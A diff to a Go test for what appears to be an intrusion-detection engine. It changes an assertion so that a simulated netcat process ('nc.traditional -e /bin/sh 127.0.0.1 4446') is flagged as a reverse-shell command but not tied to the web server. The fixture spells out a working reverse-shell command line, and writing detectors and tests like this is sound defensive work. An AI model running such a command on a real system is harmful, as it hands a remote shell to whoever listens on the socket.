@@ -318,8 +318,10 @@ func TestInjectionAndOrphans(t *testing.T) {
 	}
 	// an orphan of another account, or long after, is not adopted
 	late := s.exec(405, 1, 1000, "alice", "/home/alice", "/usr/bin/nc.traditional", "nc.traditional", "-e", "/bin/sh", "127.0.0.1", "4446")
-	if fs := e.Observe(late, s.tree); len(fs) != 0 {
-		t.Errorf("alice's orphan: %v", ids(fs))
+	// (a shell handed to a socket is still a reverse shell whoever runs
+	// it: reverse-shell-command, judged without the web context)
+	if fs := e.Observe(late, s.tree); has(fs, "web-server-reverse-shell") != nil || has(fs, "reverse-shell-command") == nil || len(fs) != 1 {
+		t.Errorf("alice's orphan: %v, want reverse-shell-command alone (not adopted for the web server)", ids(fs))
 	}
 }
 
